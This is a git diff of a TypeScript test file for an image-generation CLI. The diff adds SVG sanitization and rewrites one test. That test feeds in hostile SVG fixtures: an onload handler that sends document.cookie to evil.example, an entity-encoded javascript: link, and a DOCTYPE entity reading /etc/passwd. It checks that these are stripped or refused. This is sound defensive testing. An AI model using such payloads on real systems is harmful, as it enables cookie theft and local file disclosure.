@@ -11,8 +11,8 @@ import sharp from 'sharp';
 import type { Connection } from '../../src/api/imagesClient';
 import { runAssetsCli } from '../../src/cli/assetsCli';
 import { parseLockFile } from '../../src/core/assets/assetLock';
-import { checkSvg } from '../../src/core/outputFiles';
 import { actualCost } from '../../src/core/pricing';
+import { sanitizeSvg } from '../../src/core/svg/sanitizeSvg';
 import { planGenerate, type PlannedRequest } from '../../src/core/requestPlan';
 import { DEFAULT_SETTINGS, type Settings } from '../../src/core/settings';
 import { nodeTargetFolder } from '../../src/pipeline/nodeTargetFolder';
@@ -40,14 +40,14 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     assert.ok(plan.ok, JSON.stringify(plan.ok ? '' : plan.problems));
     return { kind: 'generate', body: plan.body };
   }
-  const run = (request: PlannedRequest) =>
+  const run = (request: PlannedRequest, log = collectingLog()) =>
     runImageJob({
       request,
       connection: connection(),
       folder: nodeTargetFolder(dir),
       stem: 'compass',
       signal: new AbortController().signal,
-      log: collectingLog(),
+      log,
     });
   async function post(body: Record<string, unknown>) {
     const reply = await fetch(`${server.baseUrl}/images/generations`, {
@@ -112,19 +112,34 @@ describe('GPT Image 2.5/2.6 and retired models against the fake Images API', fun
     assert.ok(outcome.ok);
     assert.deepEqual(outcome.files, ['compass.svg']);
     assert.equal(server.requests[0]!.fields.complexity, 'low');
-    assert.equal(checkSvg(await fs.readFile(path.join(dir, 'compass.svg'), 'utf8')), undefined);
+    const written = await fs.readFile(path.join(dir, 'compass.svg'));
+    assert.ok(sanitizeSvg(written).ok);
+    assert.match(written.toString('utf8'), /^<\?xml version="1\.0" encoding="UTF-8"\?>\n<svg xmlns="http:\/\/www\.w3\.org\/2000\/svg"/);
     assert.deepEqual(outcome.svgUsage && [outcome.svgUsage.input_tokens, outcome.svgUsage.output_tokens], [300, 900]);
     assert.ok(actualCost(DEFAULT_SETTINGS.model, outcome.usage!, outcome.svgUsage) > actualCost(DEFAULT_SETTINGS.model, outcome.usage!));
   });
 
-  it('never writes an SVG with script, or a GIF that is cut short', async () => {
+  it('writes an SVG with script as its sanitized tree, refuses one with a DOCTYPE, never writes a GIF that is cut short', async () => {
     server.fixedImages.svg = Buffer.from(
-      '<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'https://evil.example/\'+document.cookie)"><rect width="1" height="1"/></svg>',
+      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="fetch(\'https://evil.example/\'+document.cookie)"><a x:href="&#106;avascript:alert(1)"><rect width="1" height="1"/></a></svg>',
     );
-    const svg = await run(generate({ outputFormat: 'svg' }));
-    assert.ok(!svg.ok);
-    assert.equal(svg.failure.kind, 'unexpected-output');
-    assert.match(svg.failure.detail ?? '', /event handler/);
+    const log = collectingLog();
+    const svg = await run(generate({ outputFormat: 'svg' }), log);
+    assert.ok(svg.ok);
+    assert.equal(
+      await fs.readFile(path.join(dir, 'compass.svg'), 'utf8'),
+      '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><rect width="1" height="1"/></svg>\n',
+    );
+    assert.ok(
+      log.lines.some((line) => /left out of the SVG: .*onload attribute.*link/.test(line)),
+      log.lines.join('\n'),
+    );
+    await fs.rm(path.join(dir, 'compass.svg'));
+    server.fixedImages.svg = Buffer.from('<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>');
+    const refused = await run(generate({ outputFormat: 'svg' }));
+    assert.ok(!refused.ok);
+    assert.equal(refused.failure.kind, 'unexpected-output');
+    assert.match(refused.failure.detail ?? '', /DOCTYPE/);
     const frames = await Promise.all(
       [0, 1].map((i) =>
         sharp({ create: { width: 16, height: 16, channels: 3, background: { r: i * 100, g: 0, b: 0 } } })
